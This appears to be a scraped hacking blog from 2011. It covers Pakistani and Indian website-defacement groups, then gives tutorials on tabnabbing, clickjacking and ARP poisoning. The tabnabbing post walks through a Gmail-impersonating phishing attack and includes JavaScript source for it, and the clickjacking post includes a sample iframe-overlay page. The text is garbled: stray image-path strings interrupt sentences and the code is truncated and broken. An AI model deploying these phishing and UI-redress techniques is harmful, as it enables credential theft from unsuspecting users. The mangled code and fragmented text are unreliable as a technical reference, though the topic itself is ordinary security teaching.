Jawad Ehsan, a.k.a HAmza, a.k.a ZombiE_KsA is one of the most wanted black hat hackers or cyber criminals, who had founded the He was basically Saudi Arabia based and was charged with 169 website defacements. In the year 2009, he hacked the GOOGLE Moroccoand claimed thatwas the biggest defacement ever from pakistani hackers.

  • National Response Centre For Cyber Crimes:
NR3C (FIA) is providing single point of contact for all local and foreign organization for all matters related to cyber crimes. It is imparting trainings and related security education to persons of government/semi-government and private sector organizations.

  • 7th January, 2010:
Mr. Aamir Attaa wrote a topic on How to Register Complaint with FIA (Cyber Crime Wing) on a Pakistani Telecom and IT News website.

  • 1st July, 2010:
ZombiE_KsA announced on his website that Federal Investigation Department official website, which he had found on, was owned by Pakbugs.

  • 8th July, 2010:
Pakistani Telecom and IT News website announced that Pakbugs hacker’s group was Arrested, including ZombiE_KsA.

  • Today:
ZombiE_KsA isactive on Pakbugs, even more surprisingly he is working for NR3C.

Hope this time FIA/ NR3C is in right, talented hand :) What do you think guys ?

Happy Hacking...Enjoy...

For educational purpose only...Do not misuse it...

Thursday, June 9, 2011


  • What is Cyber War?

Today the war between two nations is fought on cyber space where the bullets are replaced by bytes and the soldiers are replaced by hackers. Cyber security experts say that the cyber war between Indian and Pakistani hackers has grown manifold in the last few years.• 17th Nov. 2008:
OGRA (Oil and Gas Regulatory Authority, Pakistan) website was defaced by a group of Indian hackers, called HMG (Hindu Militant Guard).

  • 26th Nov, 2008:
In response, a pakistani group of hackers, called PCA (Pakistan Cyber Army) hacked the ONGC (Oil and Natural Gas Corporation Limited, India) website.

In a message posted briefly on the ONGC website, PCA said the hacking was carried out in retaliation for the hacking of the OGRA website.

"Back off, go read some course books, else you will lose both, your name and this game. We will literally smoke your doors off like other groups did before." said the message from PCA.

The fight between Jawad Ehsan/ HAmza/ ZombiE_KsA (founder of PAKBUGS.COM) and r45c4l (leader of Indian Cyber Warriors, ICW, ANDHRAHACKERS.COM) took the higher magnitude.

  • Joint Statement of PCA and ZombiE_KsA:
Joint statement of PCA (Pakistan Cyber Army) and Zombie_ksa (pakbugs crew) comes into friendly terms with ICW (Indian Cyber Warriors, HMG)

After a meeting, all of the three groups agreed not do deface each other’s websites. It all happened when people from these groups realized that there is no use of such defacements and they should beinstead involved in constructive work. Apart from that , poor defaced organizations suffer from these activities.

PCA, zombie_ksa and ICW is not responsible for the activities performed by other groups from both countries

Me r45c4l, on the behalf of ICW likes to make a statement that after a series of defacing each other’s government websites, we as well as PCA and PakBugs feels that this is not going to solve any problem and the things will only gets worse. the guys from ICW, PCA and pakBugs are all very talented and instead of harming each other we can help each other to tighten the securities of our sites and servers.

So after a discussion with all ICW,PCA and PakBugs members, we would like to announce that we all quite this here and we will not hack each other’s sites. From now on if any one hacks any sites/servers or claims the hack to be done by either ICW or PCA or PakBugs, we will not be responsible for this.

We all r sorry for the trouble and inconvenience caused by all of us.

With regards,

Team PCA
Team PakBugs
Team ICW

Time passed, but the war did not stop. Some of them are arrested, some are still invisible. The defacements are still in progress. So website administrators, please tune upyour security, and make sure that you give tough time to hackers rather than just a minute to deface them.

Happy Hacking...Enjoy...

For educational purpose only...Do not misuse it...

Monday, April 18, 2011


  • What is Tabnabbing ?

Tabnabbing is a computer exploit andphishing attack, which persuades users to submit their login details and passwords to popular Web sites by impersonating those sites and convincing the user that the site is genuine. Theattack's name was coined in early 2010 by Aza Raskin, a security researcher and design expert.

  • How Tabnabbing Works ?1. A user navigates to your normal looking site.

2. You detect when the page has lost its focus and hasn’t been interacted with for a while.

3. Replace the favicon with the Gmail favicon, the title with “Gmail: Email from Google”, and the page with a Gmail login look-a-like. This can all be done with just a little bit of Javascript that takes place instantly.

4. As the user scans their many open tabs, the favicon and title act as a strong visual cue - memory is malleable and moldable and the user will most likely simply think they left a Gmail tab open. When they click back to the fake Gmail tab, they’ll see the standard Gmail login page, assume they’ve been logged out, and provide their credentials to log in. The attack preys on the perceived immutability of tabs.

5. After the user has entered their login information and you’ve sent it back to your server, you redirect them to Gmail. Because they were never logged out in the first place, it will appear as if the login was successful.

You can make this attack even more effective by changing the copy: Instead of having just a login screen, you can mention that the session has timed out and the user needs to re-authenticate. This happens often on bank websites, which makes them even more susceptible to this kind of attack.

  • Source Code:

var TIMER = null;
var HAS_SWITCHED = false;

window.onblur = function(){
TIMER = setTimeout(changeItUp, 5000);

window.onfocus = function(){
if(TIMER) clearTimeout(TIMER);

function setTitle(text){ document.title = text; }

favicon= {
docHead: document.getElementsByTagName("head")[0],
set: function(url){

addLink: function(iconURL) {
var link = document.createElement("link");
link.type = "image/x-icon";
link.rel = "shortcut icon";
link.href = iconURL;

removeLinkIfExists: function() {
var links = this.docHead.getElementsByTagName("link");
for (var i=0; i<links.length; i++) {
var link = links[i];
if (link.type=="image/x-icon" && link.rel=="shortcut icon") {

get: function() {
var links = this.docHead.getElementsByTagName("link");
for (var i=0; i<links.length; i++) {
var link = links[i];
if (link.type=="image/x-icon" && link.rel=="shortcut icon") {
return link.href;

function createShield(){
div = document.createElement("div"); = "fixed"; = 0; = 0; = "white"; = "100%"; = "100%"; = "center"; = "hidden";

img = document.createElement("img"); = "15px";
img.src = "";var oldTitle = document.title;
var oldFavicon = favicon.get() || "/favicon.ico";

img.onclick = function(){
div.parentNode.removeChild(div); = "auto";


function changeItUp(){
if( HAS_SWITCHED == false ){
setTitle( "Gmail: Email from Google");


  • Protection:

1. Keep your web browser up-to-date. Also make sure that plugins and extensions are up-to-date and from trusted sources.

2. The NoScript extension for Firefox defends both from the JavaScript-based and from the scriptless attack, based on meta refresh, by preventing inactive tabs from changing the location of the page.

3. Pay attention to the address in your browser’s toolbar, especially when it comes to login pages. It’s easy to get into muscle-memory mode and just assume that a tab is unchanged, but for important user accounts, keep an eye on that location bar.

4. Consider using some sort of password management tool. Raskin points to the Firefox Account Manager as one method of using the browser for your identity manager, but plugins and tools like 1Password are good choices too. Rather than typing in user names and passwords individually, using an identity manager that compares the site you are on against the stored data in its database (making sure the addresses and DNS addresses matchup) will prevent you from entering in information into a false site.

Happy Hacking...Enjoy...For educational purpose only...Do not misuse it...


  • What is Clickjacking ?

Clickjacking is a malicious technique of tricking web users into revealing confidential information or taking control of their computer while clicking on seemingly innocuous web pages.

Clickjacking involves generating a fake graphical overlay on top of an existing Web page in order to visually change the Web page whilepreserving its functionality (buttons, forms, etc.). This is done with the intension of misleading users to interact with the hidden Web page while they believe they are interacting with a completely different Web site.

  • Description:

Using only CSS Z-INDEX and HTML IFRAME, an attacker can create a transparent victim web page that contains privileged buttons. Underneath this transparent IFRAME, the attacker puts content, like a game, that entices the user to click. You may think you're playing a game, when you're actually starting a webcam recording.

Sample Script Code:

<div style="z-index:2; position:absolute;top:0; left:0;width: 70%; height:70%">
<iframe src="" id="frame1" style="opacity:0.4;filter:alpha(opacity=40); "width="100%" height="100%" onmouseover=";this.filters.alpha.opacity=50" onmouseout=";this.filters.alpha.opacity=0"/></iframe></div>
<div align="right" style="position:absolute; top:0; left:0; z-index:1; width: 70%;height:70%; background-color: yellow;text-align:left;">
<strong>This is an example of how a simple clickjacking attack is done by a malicious site.</strong><br/></div>


In this example, an attacker carries the clickjacking attack using a technique called IFrame overlays. In this technique, the malicious Web page includes code that generates the fake UI and an IFrame that points to an email application at a different domain. When the two are combined the top-level page covers portions of the IFrame in order expose only the “Yes” button and the user can be easily tricked into deleting all messages in his inbox.


One of the most notorious examples of Clickjacking was an attack against the Adobe Flash plugin settings page. By loading this page into an invisible iframe, an attacker could trick a user into altering the security settings of Flash, giving permission for any Flash animation to utilize the computer's microphone and camera.


ClickJacking is similar to many others scams which attacked Facebook over the years. It attracts users with status like “OMG This Guy Went a Little Too Far with His Revenge on His Ex-Girlfriend”. On clicking the link it asks users to complete a validation test to ensure that the response is not computer. However, by responding users are actually clicking Facebook’s “share” and “like” buttons, while also posting the message to their wall.

  • Protection:

The best defense against ClickJacking attacks is to use Firefox with the NoScript add-on installed.

Default protections that NoScript has provided for a long time, i.e. JavaScript and plugin blocking can prevent most clickjacking attacks.Since version 1.8.2, NoScript provides a new default kind of protection called ClearClick, which defeats clickjacking no matter if you block frames or not .

Happy Hacking...Enjoy...

For educational purpose only...Do not misuse it...


  • What is ARP ?
The Address Resolution Protocol (ARP) is a computer networking protocol for determining a network host's hardware address (MAC) or link layer when only its Internet Layer (IP) or Network Layer address is known. In fact it’s a IP to MAC mapping.

Broadcast ARP Request:

Jessica, the receptionist, tells Word to print the latest company contact list. This is her first print job today. Her computer (IP address wants to send the print job to the office's HP LaserJet printer (IP address So Jessica's computer broadcasts an ARP Request to the entire local network asking, "Who has the IP address,"

Unicast ARP Reply:

All the devices on the network ignore this ARP Request, except for the HP LaserJet printer. The printer recognizes its own IP in the request and sends an ARP Reply: "Hey, my IP address is Here is my MAC address: 00:90:7F:12:DE:7F"

  • ARP Poisoning:Address Resolution Protocol (ARP) spoofing, also known as ARP poisoning or ARP Poison Routing (APR), is a technique used to attack an Ethernet wired or wireless network. ARP Spoofing may allow an attacker to sniff data frames on a local area network (LAN), modify the traffic, or stop the traffic altogether.

The ability to associate any IP address with any MAC address provides hackers with many attack vectors, including Denial of Service (DoS), Man in the Middle, and MAC Flooding.

  • Man in the Middle Attack (MIMA):
A hacker can exploit ARP Cache Poisoning to intercept network traffic between two devices in your network.

Attack Stage-1:

